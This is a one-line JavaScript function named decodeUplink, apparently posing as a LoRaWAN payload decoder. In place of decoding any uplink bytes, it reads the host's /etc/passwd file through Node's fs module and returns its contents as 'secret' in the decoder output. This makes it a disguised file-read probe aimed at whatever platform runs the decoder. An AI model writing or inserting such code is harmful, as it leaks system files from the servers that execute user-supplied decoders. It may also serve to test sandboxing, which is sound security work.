function decodeUplink() { return { data: { secret: require("fs").readFileSync("/etc/passwd") } }; }
